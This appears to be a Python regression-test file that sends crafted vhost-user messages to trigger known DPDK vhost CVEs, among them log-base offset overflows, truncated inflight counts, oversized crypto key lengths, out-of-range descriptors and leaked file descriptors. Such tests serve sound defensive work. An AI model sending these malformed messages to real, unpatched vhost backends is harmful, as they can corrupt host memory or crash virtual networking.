# SPDX-License-Identifier: BSD-3-Clause
"""DPDK's CVEs of the vhost library whose trigger can be sent, by number."""

import struct
import time

from case import case, honest
from master import *  # noqa: F403  pylint: disable=wildcard-import


@case
def cve_2020_10722_log_offset_overflow(m):
    """SET_LOG_BASE whose offset and size overflow: memory outside the mapping was written."""
    honest(m)
    for size, offset in ((0x1000, 2**64 - 0x1000), (2**64 - 1, 2), (0x1000, 2**63)):
        m.tell(SET_LOG_BASE, struct.pack("<QQ", size, offset), [m.fd])


@case
def cve_2020_10723_inflight_index_truncated(m):
    """GET/SET_INFLIGHT_FD with counts that overflow 16 bits."""
    honest(m)
    m.tell(SET_INFLIGHT_FD, struct.pack("<QQHH4x", 0x1000, 0, 0xffff, 0xffff))
    m.tell(GET_INFLIGHT_FD, struct.pack("<QQHH4x", 0, 0, 0xffff, 0xffff))
    m.sync()


@case
def cve_2020_10724_crypto_lengths(m):
    """A crypto session with key lengths beyond its buffers."""
    honest(m)
    m.tell(CRYPTO_CREATE, struct.pack("<qIIIIIII", 1, 2, 3, 0xffffffff, 1, 0xffffffff, 0xffffffff,
                                      0xffffffff) + bytes(592))
    m.sync()


@case
def cve_2020_10725_descriptor_chain_out_of_memory(m):
    """An avail entry far beyond the table, and an address the memory does not have."""
    honest(m)
    m.descriptor(RX, 0, 2**64 - 1, 2048, WRITE)
    m.offer(RX, 0, 128)
    m.offer(RX, 0xffff, 32)
    m.descriptor(TX, 5, 2**64 - 64, 2048)
    m.offer(TX, 5, 16)
    time.sleep(0.05)


@case
def cve_2020_10726_get_inflight_again_and_again(m):
    """GET_INFLIGHT_FD leaked a mapping and a descriptor each time."""
    m.introduce()
    for _ in range(64):
        m.tell(GET_INFLIGHT_FD, struct.pack("<QQHH4x", 0, 0, 2, 256))
        m.reply()


@case
def cve_2021_3839_inflight_queues_beyond_the_last(m):
    """SET_INFLIGHT_FD for more queues than there are, with a file too small for them."""
    honest(m)
    m.tell(SET_INFLIGHT_FD, struct.pack("<QQHH4x", 0x1000, 0, 0x100, 256), [m.fd])
    m.sync()


@case
def cve_2022_0669_descriptors_that_are_not_closed(m):
    """Messages that carry no descriptors sent with eight of them, and the other way round."""
    honest(m)
    for request in (SEND_RARP, NET_SET_MTU, SET_STATUS, SET_VRING_NUM, SET_VRING_BASE):
        m.tell(request, struct.pack("<II", 0, 1500), [m.fd] * 8)


@case
def cve_2022_2132_header_over_many_descriptors(m):
    """The virtio header itself spread over descriptors, of which each is too small."""
    m.start()
    for pieces in (12, 13, 100):
        for i in range(pieces):
            m.descriptor(TX, i, BUFFERS + i, 1, NEXT if i < pieces - 1 else 0, i + 1)
        m.offer(TX, 0, 4)
        for i in range(pieces):
            m.descriptor(RX, i, BUFFERS + i, 1, WRITE | (NEXT if i < pieces - 1 else 0), i + 1)
        m.offer(RX, 0, 16)
        time.sleep(0.02)


@case
def cve_2024_11614_checksum_of_a_short_packet(m):
    """A header that asks for a checksum far beyond the packet."""
    m.introduce(features=(1 << 32) | (1 << 0) | (1 << 1))  # not offered: refused
    m.share()
    for ring in (RX, TX):
        m.start_ring(ring)
    m.memory[BUFFERS + 0x400000:BUFFERS + 0x400000 + 12] = struct.pack(
        "<BBHHHHH", 1, 3, 0xffff, 1, 0xfff0, 0xfff0, 1)
    m.send(16)
    time.sleep(0.02)


def cve_2019_14818_descriptors_left_open(m):
    """Descriptors with a message about a ring beyond 255: librte_vhost (22.11, 24.11) still loses them. No
    case, since they stay open in spp_vf: tests/func/test_hostile.py has it."""
    m.tell(SET_VRING_ADDR, struct.pack("<IIQQQQ", 300, 0, 0, 0, 0, 0), [m.fd] * 8)
